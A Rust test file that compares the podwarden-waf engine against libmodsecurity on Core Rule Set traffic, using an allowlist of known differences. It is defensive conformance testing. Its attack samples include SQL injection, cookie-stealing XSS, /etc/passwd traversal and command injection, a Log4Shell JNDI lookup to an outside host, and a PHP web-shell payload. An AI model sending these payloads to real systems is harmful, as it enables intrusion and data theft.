//! Differential tests: podwarden-waf and libmodsecurity v3 evaluate the same
//! requests with the same CRS, setup and settings, in one process.
//!
//! libmodsecurity is not an oracle (it fails part of the CRS regression suite
//! itself), so the tests do not demand identity: every difference (a rule id
//! logged by one engine only, or a different blocking decision) must be listed
//! in `differential-allowlist.tsv` with its category and reason, and any other
//! difference fails the test. `WAF_WRITE_DIFFERENTIAL=1` rewrites the
//! allowlist (keeping the reasons already written) and the generated section
//! of `policies/waf/conformance/DIFFERENTIAL.md`.
//!
//! Skips, saying why, when libmodsecurity or CRS is not installed.

use podwarden_waf::crs::{load_crs, CrsOptions};
use podwarden_waf::{Request, RuleSet};
use podwarden_waf_modsec_ref::{ftw, Error, ModSec, RefOutcome};
use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::path::PathBuf;

const ONLY_MODSEC: &str = "modsec-only";
const ONLY_OURS: &str = "ours-only";
/// A category derived from the CRS test's own expectations.
const MODSEC_WRONG: &str = "libmodsecurity";
const OURS_WRONG: &str = "ours";
const UNJUDGED: &str = "unjudged";

fn manifest() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

/// Both engines loaded with `opts`, or None after printing why not.
fn engines(opts: &CrsOptions) -> Option<(RuleSet, ModSec)> {
    let Some(dir) = ftw::crs_dir() else {
        println!("skipped: CRS v4.28.0 not found beside the repository (../shared/crs/v4.28.0)");
        return None;
    };
    let theirs = match ModSec::load_crs(&dir, opts) {
        Ok(m) => m,
        Err(Error::NotInstalled(why)) => {
            println!("skipped: libmodsecurity not installed ({why}); scripts/setup.sh installs libmodsecurity3");
            return None;
        }
        Err(e) => panic!("libmodsecurity could not load CRS: {e}"),
    };
    let ours = load_crs(&dir, opts).unwrap_or_else(|e| panic!("CRS failed to load:\n{e}"));
    Some((ours, theirs))
}

/// One difference between the engines.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
struct Diff {
    key: String,
    /// A rule id, or 0 for a different blocking decision.
    id: u64,
    side: &'static str,
    /// Which engine is at fault: from the CRS test's expectation when it
    /// says, else from the analysed causes in `cause`.
    category: &'static str,
    reason: String,
}

/// An allowlist line: key, id, side, category, reason.
#[derive(Debug, Clone)]
struct Allowed {
    category: String,
    reason: String,
}

type Allowlist = BTreeMap<(String, u64, String), Allowed>;

/// Differences allowed for every request (key `*`): a logging-only cause
/// that would otherwise bury the detection differences.
const WILDCARDS: &[(u64, &str)] = &[(980170, ONLY_OURS)];

fn is_wildcard(d: &Diff) -> bool {
    WILDCARDS.contains(&(d.id, d.side))
}

fn allowed<'a>(allow: &'a Allowlist, d: &Diff) -> Option<&'a Allowed> {
    allow
        .get(&(d.key.clone(), d.id, d.side.to_string()))
        .or_else(|| allow.get(&("*".to_string(), d.id, d.side.to_string())))
}

fn allowlist_path() -> PathBuf {
    manifest().join("differential-allowlist.tsv")
}

fn read_allowlist() -> Allowlist {
    let text = std::fs::read_to_string(allowlist_path()).unwrap_or_default();
    let mut out = Allowlist::new();
    for (n, line) in text.lines().enumerate() {
        if line.starts_with('#') || line.trim().is_empty() {
            continue;
        }
        let f: Vec<&str> = line.split('\t').collect();
        assert!(
            f.len() == 5,
            "differential-allowlist.tsv:{}: want 5 tab-separated fields",
            n + 1
        );
        let id: u64 = f[1]
            .parse()
            .unwrap_or_else(|_| panic!("differential-allowlist.tsv:{}: bad id", n + 1));
        out.insert(
            (f[0].to_string(), id, f[2].to_string()),
            Allowed {
                category: f[3].to_string(),
                reason: f[4].to_string(),
            },
        );
    }
    out
}

/// The variable libmodsecurity reports for rule `id` in its messages.
fn modsec_variable(msgs: &[String], id: u64) -> Option<String> {
    let tag = format!("[id \"{id}\"]");
    let m = msgs.iter().find(|m| m.contains(&tag))?;
    let i = m.find("against variable `")? + "against variable `".len();
    let rest = &m[i..];
    Some(rest[..rest.find('\'')?].to_string())
}

/// Why the engines differ, for differences the CRS test does not judge:
/// the causes found by reading both engines' traces (examples/compare.rs).
fn cause(id: u64, side: &str, var: Option<&str>, req: &Request) -> (&'static str, String) {
    let ct = req
        .headers
        .iter()
        .find(|(k, _)| k.eq_ignore_ascii_case("content-type"))
        .map(|(_, v)| String::from_utf8_lossy(v).to_ascii_lowercase())
        .unwrap_or_default();
    let var = var.unwrap_or("");
    let ends_lf = req.body.ends_with(b"\n") || req.uri.to_ascii_lowercase().ends_with("%0a");
    let has_lf = req.body.contains(&b'\n') || req.uri.to_ascii_lowercase().contains("%0a");
    let r = |c: &'static str, s: &str| (c, s.to_string());
    match (id, side) {
        (980170, ONLY_OURS) => r(MODSEC_WRONG, "libmodsecurity 3 logs no message for a rule with noauditlog even when log is set (ModSecurity 2 does); 980170 is CRS's anomaly-score report"),
        (949110, _) | (949111, _) => r(UNJUDGED, "consequence: the other differences in this request move the anomaly score across the threshold"),
        (_, ONLY_MODSEC) if var.ends_with("REQUEST_BODY") && !ct.starts_with("application/x-www-form-urlencoded") => r(MODSEC_WRONG, "libmodsecurity 3 fills REQUEST_BODY for multipart, XML and JSON bodies too; ModSecurity 2 and CRS's tests fill it only for urlencoded bodies (or forceRequestBodyVariable)"),
        (200003, ONLY_MODSEC) => r(OURS_WRONG, "MULTIPART_STRICT_ERROR: ModSecurity 2 and 3 both raise it for LF-only line endings (MULTIPART_LF_LINE); podwarden only for mixed CRLF/LF lines"),
        (200002 | 200003, ONLY_OURS) if req.body.is_empty() => r(OURS_WRONG, "empty body: podwarden runs the multipart/JSON processor and sets REQBODY_ERROR; libmodsecurity does not process an absent body"),
        (200002 | 200004, ONLY_MODSEC) => r(UNJUDGED, "libmodsecurity's body parser rejects this body (REQBODY_ERROR / unmatched boundary); podwarden's accepts it"),
        (_, ONLY_OURS) if ct.contains("xml") => r(UNJUDGED, "libmodsecurity rejects this XML body (REQBODY_ERROR) and never inspects its values; podwarden parses it"),
        (921180, ONLY_OURS) if ct.contains("json") => r(UNJUDGED, "JSON arrays: podwarden names every element after its key (as ModSecurity 2), so CRS sees a repeated parameter; libmodsecurity 3.0.9 does not"),
        (931131 | 934110, ONLY_MODSEC) if var == "REQUEST_FILENAME" => r(MODSEC_WRONG, "absolute-form request target: libmodsecurity 3 keeps scheme and host in REQUEST_FILENAME; ModSecurity 2 and podwarden use the path"),
        (920100, ONLY_OURS) if req.protocol.is_empty() => r(UNJUDGED, "HTTP/0.9 request line without a version: the harness passes an empty protocol, which the engines turn into different REQUEST_LINEs"),
        (920273, ONLY_OURS) if req.uri.contains('#') => r(OURS_WRONG, "request target with a #fragment: libmodsecurity (like Apache in front of ModSecurity 2) cuts the fragment off the query string; podwarden keeps it in the last argument's value"),
        (930130, ONLY_OURS) => r(MODSEC_WRONG, "@pmFromFile: restricted-files.data's `.env` occurs in the path; libmodsecurity 3.0.9's Aho-Corasick misses it (ModSecurity @pm matches substrings)"),
        (_, ONLY_OURS) if has_lf && ct.starts_with("application/x-www-form-urlencoded") => r(UNJUDGED, "the value contains a line break: PCRE (libmodsecurity) and podwarden's regex translation differ on it"),
        (920250, ONLY_MODSEC) => r(UNJUDGED, "libmodsecurity logs 920250 although its chain head (TX:CRS_VALIDATE_UTF8_ENCODING @eq 1) is unset in this configuration"),
        (_, ONLY_MODSEC) if var.contains("ARGS") && ends_lf => r(OURS_WRONG, "the value ends with a newline: PCRE's `$` (CRS's regex dialect) also matches before a final newline, podwarden's translated `$` does not"),
        (_, ONLY_MODSEC) if var.contains("ARGS") && has_lf => r(UNJUDGED, "the value contains a line break: PCRE (libmodsecurity) and podwarden's regex translation differ on it (e.g. `$` before a final newline)"),
        (_, ONLY_MODSEC) if var.starts_with("ARGS") || var.starts_with("XML") => r(UNJUDGED, "regex semantics: PCRE in libmodsecurity matches this value, podwarden's regex does not; the CRS test does not say which is right"),
        _ => r(UNJUDGED, "not analysed yet"),
    }
}

/// Compares one request's results; `expect`/`no_expect` are the CRS test's.
#[allow(clippy::too_many_arguments)]
fn compare(
    key: &str,
    req: &Request,
    ours: &BTreeSet<u64>,
    theirs: &RefOutcome,
    msgs: &[String],
    expect: &[u64],
    no_expect: &[u64],
    out: &mut Vec<Diff>,
) {
    for (side, a, b) in [
        (ONLY_OURS, ours, &theirs.logged_ids),
        (ONLY_MODSEC, &theirs.logged_ids, ours),
    ] {
        for id in a.difference(b) {
            let has_it_wrong = if expect.contains(id) {
                // The engine that lacks an expected id is wrong.
                Some(if side == ONLY_OURS { "modsec" } else { "ours" })
            } else if no_expect.contains(id) {
                Some(if side == ONLY_OURS { "ours" } else { "modsec" })
            } else {
                None
            };
            let var = modsec_variable(msgs, *id);
            let (category, reason) = match has_it_wrong {
                _ if WILDCARDS.contains(&(*id, side)) => cause(*id, side, None, req),
                Some("modsec") => (MODSEC_WRONG, expectation_reason(MODSEC_WRONG, side)),
                Some(_) => (OURS_WRONG, expectation_reason(OURS_WRONG, side)),
                None => cause(*id, side, var.as_deref(), req),
            };
            out.push(Diff {
                key: key.to_string(),
                id: *id,
                side,
                category,
                reason,
            });
        }
    }
}

struct Report {
    title: String,
    total: usize,
    /// Requests with no difference at all.
    agreeing: usize,
    /// Requests whose only differences are the logging-only `WILDCARDS`.
    agreeing_detection: usize,
    diffs: Vec<Diff>,
}

impl Report {
    fn new(title: &str) -> Report {
        Report {
            title: title.into(),
            total: 0,
            agreeing: 0,
            agreeing_detection: 0,
            diffs: Vec::new(),
        }
    }

    /// Counts the request whose differences start at `before`; true when
    /// the engines agree on detection.
    fn count(&mut self, before: usize) -> bool {
        self.total += 1;
        let new = &self.diffs[before..];
        if new.is_empty() {
            self.agreeing += 1;
        }
        let detection = new.iter().all(is_wildcard);
        if detection {
            self.agreeing_detection += 1;
        }
        detection
    }
}

/// Checks `diffs` against the allowlist; returns the unexpected ones.
fn unexpected<'a>(diffs: &'a [Diff], allow: &Allowlist) -> Vec<&'a Diff> {
    diffs
        .iter()
        .filter(|d| allowed(allow, d).is_none())
        .collect()
}

fn summarise(r: &Report, allow: &Allowlist) -> String {
    let pct = |n: usize| 100.0 * n as f64 / r.total.max(1) as f64;
    let mut s = format!(
        "### {}\n\n**Agreement: {}/{} requests ({:.2}%)** give the same logged rule ids and blocking decision once CRS's reporting rule 980170 (a libmodsecurity logging bug, below) is set aside; {}/{} ({:.2}%) with it.\n\n",
        r.title,
        r.agreeing_detection,
        r.total,
        pct(r.agreeing_detection),
        r.agreeing,
        r.total,
        pct(r.agreeing),
    );
    let mut by_fault: BTreeMap<String, usize> = BTreeMap::new();
    for d in r.diffs.iter().filter(|d| !is_wildcard(d)) {
        let cat = allowed(allow, d).map_or(d.category.to_string(), |a| a.category.clone());
        *by_fault.entry(cat).or_default() += 1;
    }
    if !by_fault.is_empty() {
        let parts: Vec<String> = by_fault.iter().map(|(k, n)| format!("{k} {n}")).collect();
        writeln!(
            s,
            "Differences (one per rule id and request, 980170 aside) by who is at fault: {}.\n",
            parts.join(", ")
        )
        .ok();
    }
    // Group by rule, side and category: one line per cause, with counts.
    let mut groups: BTreeMap<(u64, &str, String, String), Vec<&str>> = BTreeMap::new();
    for d in &r.diffs {
        let (cat, why) = match allowed(allow, d) {
            Some(a) => (a.category.clone(), a.reason.clone()),
            None => (d.category.to_string(), "not in the allowlist".to_string()),
        };
        groups
            .entry((d.id, d.side, cat, why))
            .or_default()
            .push(&d.key);
    }
    if groups.is_empty() {
        s.push_str("No differences.\n\n");
        return s;
    }
    s.push_str(
        "| rule | logged by | at fault | requests | reason | e.g. |\n|---|---|---|---|---|---|\n",
    );
    for ((id, side, cat, why), keys) in &groups {
        let rule = if *id == 0 {
            "decision".to_string()
        } else {
            id.to_string()
        };
        let who = match *side {
            ONLY_MODSEC => "libmodsecurity only",
            _ => "podwarden only",
        };
        writeln!(
            s,
            "| {rule} | {who} | {cat} | {} | {why} | `{}` |",
            keys.len(),
            keys[0]
        )
        .ok();
    }
    s.push('\n');
    s
}

/// Rewrites the allowlist with `diffs` (keeping reasons) when asked.
fn write_allowlist(all: &[&Diff], allow: &Allowlist) {
    let mut text = String::from(
        "# Known differences between podwarden-waf and libmodsecurity 3 (tests/differential.rs).\n\
         # key\trule id (0 = blocking decision)\tside\tat fault (libmodsecurity|ours|unjudged)\treason\n",
    );
    let mut rows: BTreeMap<(String, u64, &str), (String, String)> = BTreeMap::new();
    for d in all {
        let (cat, why) = match allowed(allow, d) {
            Some(a) => (a.category.clone(), a.reason.clone()),
            None => (d.category.to_string(), d.reason.clone()),
        };
        let key = if is_wildcard(d) {
            "*".to_string()
        } else {
            d.key.clone()
        };
        rows.entry((key, d.id, d.side)).or_insert((cat, why));
    }
    for ((k, id, side), (cat, why)) in rows {
        writeln!(text, "{k}\t{id}\t{side}\t{cat}\t{why}").ok();
    }
    std::fs::write(allowlist_path(), text).expect("write allowlist");
}

fn expectation_reason(category: &str, side: &str) -> String {
    match category {
        MODSEC_WRONG if side == ONLY_OURS => {
            "the CRS test expects this rule; libmodsecurity 3.0 does not log it".into()
        }
        MODSEC_WRONG => "the CRS test forbids this rule; libmodsecurity 3.0 logs it".into(),
        OURS_WRONG if side == ONLY_OURS => {
            "the CRS test forbids this rule; podwarden logs it".into()
        }
        OURS_WRONG => "the CRS test expects this rule; podwarden does not log it".into(),
        _ => "not analysed yet".into(),
    }
}

const BEGIN: &str = "<!-- generated by tests/differential.rs: begin";
const END: &str = "<!-- generated by tests/differential.rs: end";

/// Replaces this test's section of DIFFERENTIAL.md, keeping the rest.
fn write_report(name: &str, section: &str) {
    let path = manifest().join("../conformance/DIFFERENTIAL.md");
    let doc = std::fs::read_to_string(&path).unwrap_or_default();
    let (b, e) = (format!("{BEGIN} {name} -->"), format!("{END} {name} -->"));
    let block = format!("{b}\n{section}{e}");
    let new = match (doc.find(&b), doc.find(&e)) {
        (Some(i), Some(j)) if j > i => format!("{}{block}{}", &doc[..i], &doc[j + e.len()..]),
        _ => format!("{doc}\n{block}\n"),
    };
    std::fs::write(&path, new).expect("write DIFFERENTIAL.md");
}

/// Fails on differences not in the allowlist; prints stale entries.
fn check(reports: &[Report], name: &str) {
    let writing = std::env::var_os("WAF_WRITE_DIFFERENTIAL").is_some();
    let allow = read_allowlist();
    let mut bad = Vec::new();
    let mut all: Vec<&Diff> = Vec::new();
    for r in reports {
        let pct = |n: usize| 100.0 * n as f64 / r.total.max(1) as f64;
        println!(
            "{}: {}/{} agree on detection ({:.2}%), {}/{} on every logged id ({:.2}%), {} differences",
            r.title,
            r.agreeing_detection,
            r.total,
            pct(r.agreeing_detection),
            r.agreeing,
            r.total,
            pct(r.agreeing),
            r.diffs.len()
        );
        bad.extend(unexpected(&r.diffs, &allow));
        all.extend(r.diffs.iter());
    }
    if writing {
        // Keep the other test's entries: each test owns the keys it produced.
        let prefixes: BTreeSet<String> = reports.iter().map(|r| prefix(&r.title)).collect();
        let mut merged: Vec<Diff> = all.iter().map(|d| (*d).clone()).collect();
        for ((k, id, side), a) in &allow {
            if k != "*" && !prefixes.iter().any(|p| k.starts_with(p.as_str())) {
                merged.push(Diff {
                    key: k.clone(),
                    id: *id,
                    side: if side == ONLY_MODSEC {
                        ONLY_MODSEC
                    } else {
                        ONLY_OURS
                    },
                    category: match a.category.as_str() {
                        MODSEC_WRONG => MODSEC_WRONG,
                        OURS_WRONG => OURS_WRONG,
                        _ => UNJUDGED,
                    },
                    reason: a.reason.clone(),
                });
            }
        }
        write_allowlist(&merged.iter().collect::<Vec<_>>(), &allow);
        let allow = read_allowlist();
        let section: String = reports.iter().map(|r| summarise(r, &allow)).collect();
        write_report(name, &section);
    }
    let seen: BTreeSet<(String, u64, String)> = all
        .iter()
        .map(|d| (d.key.clone(), d.id, d.side.to_string()))
        .collect();
    let prefixes: Vec<String> = reports.iter().map(|r| prefix(&r.title)).collect();
    for k in allow.keys() {
        if k.0 != "*" && prefixes.iter().any(|p| k.0.starts_with(p.as_str())) && !seen.contains(k) {
            println!(
                "allowlisted difference no longer seen (the engines now agree): {} rule {} {}",
                k.0, k.1, k.2
            );
        }
    }
    assert!(
        bad.is_empty(),
        "{} differences from libmodsecurity not in differential-allowlist.tsv (analyse them, then run with WAF_WRITE_DIFFERENTIAL=1):\n{}",
        bad.len(),
        bad.iter()
            .map(|d| format!("  {} rule {} logged by {} (CRS test says at fault: {})", d.key, d.id, d.side, d.category))
            .collect::<Vec<_>>()
            .join("\n")
    );
}

/// Allowlist keys of a report start with this.
fn prefix(title: &str) -> String {
    if title.starts_with("CRS regression") {
        // Regression keys are test file paths (REQUEST-..., RESPONSE-...).
        String::from("RE")
    } else {
        String::from("pl1/")
    }
}

#[test]
fn crs_regression_requests_agree_with_libmodsecurity() {
    let opts = CrsOptions {
        extra_before_rules: Some(ftw::TEST_CONFIG.into()),
        ..Default::default()
    };
    let Some((ours, theirs)) = engines(&opts) else {
        return;
    };
    let dir = ftw::crs_dir().expect("checked by engines()");
    let stages = ftw::stages(&dir.join("tests/regression/tests")).expect("regression tests");
    let mut rep = Report::new("CRS regression suite requests (DetectionOnly, paranoia 4)");
    for st in &stages {
        let Ok(req) = ftw::build_request(&st.input) else {
            continue;
        };
        let resp = ftw::backend_response(&req);
        let o: BTreeSet<u64> = ours
            .evaluate(&req, Some(&resp))
            .logged_ids()
            .into_iter()
            .collect();
        let (t, msgs) = theirs.evaluate_verbose(&req, Some(&resp));
        let before = rep.diffs.len();
        compare(
            &st.key(),
            &req,
            &o,
            &t,
            &msgs,
            &st.expect_ids,
            &st.no_expect_ids,
            &mut rep.diffs,
        );
        rep.count(before);
    }
    assert!(rep.total > 4000, "only {} stages replayed", rep.total);
    check(&[rep], "regression");
}

fn browser(method: &str, uri: &str, extra: &[(&str, &str)], body: &[u8]) -> Request {
    let mut headers: Vec<(String, Vec<u8>)> = [
        ("Host", "shop.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("Accept-Language", "en-US,en;q=0.5"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Cookie", "session=3f9a1c2e7b; theme=dark"),
        ("Referer", "https://shop.example.com/catalog"),
        ("Connection", "keep-alive"),
    ]
    .iter()
    .map(|(k, v)| (k.to_string(), v.as_bytes().to_vec()))
    .collect();
    for (k, v) in extra {
        headers.retain(|(n, _)| !n.eq_ignore_ascii_case(k));
        headers.push((k.to_string(), v.as_bytes().to_vec()));
    }
    if !body.is_empty() {
        headers.push(("Content-Length".into(), body.len().to_string().into_bytes()));
    }
    Request {
        method: method.into(),
        uri: uri.into(),
        protocol: "HTTP/1.1".into(),
        headers,
        body: body.to_vec(),
        remote_addr: "192.0.2.10".into(),
        remote_port: 40000,
        server_port: 80,
    }
}

/// Benign traffic a browser or API client sends, then attacks; at PL1 with
/// the engine On both engines must agree on ids, score and decision.
fn pl1_requests() -> Vec<(&'static str, Request)> {
    let form = b"user=jane.doe%40example.com&password=correct+horse+battery&remember=on";
    let json = br#"{"order":[{"sku":"SKU-00001","qty":2,"note":"gift wrap please"}],"customer":"Jane Doe","coupon":null,"express":true}"#;
    let xml = br#"<?xml version="1.0"?><order id="7"><item sku="SKU-1">Blue shoes</item><qty>2</qty></order>"#;
    let mp = b"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photo\r\n--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0JFIFdata\r\n--XyZ--\r\n";
    let ff = "application/x-www-form-urlencoded";
    vec![
        ("pl1/benign-home", browser("GET", "/", &[], b"")),
        ("pl1/benign-search", browser("GET", "/catalog/search?q=blue+shoes&page=2&sort=price", &[], b"")),
        ("pl1/benign-static", browser("GET", "/static/app.3f9a1c.js", &[("Accept", "*/*")], b"")),
        ("pl1/benign-utf8", browser("GET", "/search?q=caf%C3%A9+cr%C3%A8me&lang=fr", &[], b"")),
        ("pl1/benign-head", browser("HEAD", "/health", &[], b"")),
        ("pl1/benign-options", browser("OPTIONS", "/api/orders", &[("Origin", "https://shop.example.com"), ("Access-Control-Request-Method", "POST")], b"")),
        ("pl1/benign-login-form", browser("POST", "/login", &[("Content-Type", ff)], form)),
        ("pl1/benign-json", browser("POST", "/api/orders", &[("Content-Type", "application/json"), ("Accept", "application/json")], json)),
        ("pl1/benign-xml", browser("POST", "/api/orders.xml", &[("Content-Type", "application/xml")], xml)),
        ("pl1/benign-multipart", browser("POST", "/upload", &[("Content-Type", "multipart/form-data; boundary=XyZ")], mp)),
        ("pl1/benign-put-json", browser("PUT", "/api/cart/42", &[("Content-Type", "application/json; charset=utf-8")], br#"{"qty":3}"#)),
        ("pl1/benign-delete", browser("DELETE", "/api/cart/42", &[("Accept", "application/json")], b"")),
        ("pl1/benign-bearer", browser("GET", "/api/me", &[("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl")], b"")),
        ("pl1/benign-curl", browser("GET", "/api/status", &[("User-Agent", "curl/8.5.0"), ("Accept", "*/*")], b"")),
        ("pl1/benign-range", browser("GET", "/video.mp4", &[("Range", "bytes=0-1023")], b"")),
        ("pl1/benign-long-cookie", browser("GET", "/account", &[("Cookie", "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000; cart=%7B%22items%22%3A3%7D")], b"")),
        ("pl1/attack-sqli", browser("GET", "/catalog/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--&page=1", &[], b"")),
        ("pl1/attack-xss", browser("GET", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", &[], b"")),
        ("pl1/attack-lfi", browser("GET", "/download?file=../../../../etc/passwd", &[], b"")),
        ("pl1/attack-rce", browser("POST", "/ping", &[("Content-Type", ff)], b"host=127.0.0.1%3Bcat%20/etc/passwd")),
        ("pl1/attack-log4shell", browser("GET", "/", &[("User-Agent", "${jndi:ldap://198.51.100.7/a}")], b"")),
        ("pl1/attack-php", browser("POST", "/index.php", &[("Content-Type", ff)], b"code=%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E")),
        ("pl1/attack-json-sqli", browser("POST", "/api/login", &[("Content-Type", "application/json")], br#"{"user":"admin' OR 1=1--","pass":"x"}"#)),
        ("pl1/attack-scanner", browser("GET", "/", &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], b"")),
    ]
}

#[test]
fn pl1_requests_agree_with_libmodsecurity() {
    let Some((ours, theirs)) = engines(&CrsOptions::default()) else {
        return;
    };
    let mut rep = Report::new("Browser-like and attack requests (engine On, paranoia 1)");
    for (key, req) in pl1_requests() {
        let o = ours.evaluate(&req, None);
        let (t, msgs) = theirs.evaluate_verbose(&req, None);
        let ids: BTreeSet<u64> = o.logged_ids().into_iter().collect();
        let before = rep.diffs.len();
        compare(key, &req, &ids, &t, &msgs, &[], &[], &mut rep.diffs);
        // Attacks must be blocked by both, benign requests by neither: that
        // is the ground truth here, so a decision difference has a culprit.
        let expect_block = key.starts_with("pl1/attack");
        let (ob, tb) = (o.interruption.is_some(), t.interruption.is_some());
        if ob != tb {
            rep.diffs.push(Diff {
                key: key.to_string(),
                id: 0,
                side: if ob { ONLY_OURS } else { ONLY_MODSEC },
                category: if ob == expect_block {
                    MODSEC_WRONG
                } else {
                    OURS_WRONG
                },
                reason: format!(
                    "blocking decision: the request is {}",
                    if expect_block { "an attack" } else { "benign" }
                ),
            });
        }
        println!(
            "{key}: ours score {} block {ob} ids {ids:?}; libmodsecurity score {} block {tb} ids {:?}",
            o.inbound_anomaly_score, t.inbound_anomaly_score, t.logged_ids
        );
        if rep.count(before) {
            assert_eq!(
                o.inbound_anomaly_score, t.inbound_anomaly_score,
                "{key}: same rules but a different inbound anomaly score"
            );
        }
    }
    check(&[rep], "pl1");
}

#[test]
fn allowlist_is_well_formed() {
    // Parsing panics with the line number on a malformed line.
    let a = read_allowlist();
    for ((k, _, side), v) in &a {
        assert!(
            side == ONLY_MODSEC || side == ONLY_OURS,
            "{k}: bad side {side}"
        );
        assert!(
            [MODSEC_WRONG, OURS_WRONG, UNJUDGED].contains(&v.category.as_str()),
            "{k}: bad category {}",
            v.category
        );
        assert!(!v.reason.is_empty(), "{k}: empty reason");
    }
}
